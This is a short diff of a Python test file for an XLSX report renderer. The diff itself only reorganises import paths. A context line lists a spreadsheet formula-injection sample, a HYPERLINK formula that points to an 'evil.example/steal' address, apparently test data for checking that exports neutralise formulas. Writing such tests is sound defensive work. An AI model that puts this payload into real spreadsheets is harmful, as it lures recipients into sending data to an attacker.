@@ -16,9 +16,9 @@ import pytest
 from factories import COMPLETED, HOSTILE_TEXT, MINOR, action, make_context
 
 from wfs_reports.cli import main
-from wfs_reports.context import Changes
-from wfs_reports.render_xlsx import render_xlsx
-from wfs_reports.resources import load_templates
+from wfs_reports.config import load_templates
+from wfs_reports.render.xlsx import render_xlsx
+from wfs_reports.report.context import Changes
 
 FORMULA_TEXTS = [
     '=HYPERLINK("http://evil.example/steal?x=1","Click for update")',
